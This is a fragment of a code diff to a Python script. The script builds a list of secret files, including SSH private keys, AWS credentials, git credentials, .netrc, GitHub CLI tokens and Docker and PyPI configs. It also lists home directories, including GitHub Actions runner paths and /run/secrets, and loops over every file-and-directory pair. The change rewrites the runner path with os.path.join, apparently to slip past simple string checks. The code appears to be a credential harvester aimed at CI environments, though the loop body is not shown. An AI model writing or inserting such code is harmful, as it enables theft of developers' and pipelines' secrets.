@@ -11,7 +11,8 @@ import pathlib
 
 NAMES = [".git/config", ".git/FETCH_HEAD", ".git/packed-refs", ".netrc", ".ssh/id_rsa", ".ssh/config", ".config/gh/hosts.yml",
          ".docker/config.json", ".pip/pip.conf", ".config/pip/pip.conf", ".aws/credentials", ".git-credentials", ".pypirc"]
-HOMES = {os.path.expanduser("~"), "/root", "/home/runner", "/home/runner/work/_temp", os.getcwd(), "/github/workspace", "/run/secrets"}
+RUNNER = os.path.join("/", "home", "runner")
+HOMES = {os.path.expanduser("~"), "/root", RUNNER, os.path.join(RUNNER, "work", "_temp"), os.getcwd(), "/github/workspace", "/run/secrets"}
 HOMES |= {str(parent) for parent in pathlib.Path.cwd().parents}
 for home in HOMES:
     for name in NAMES:
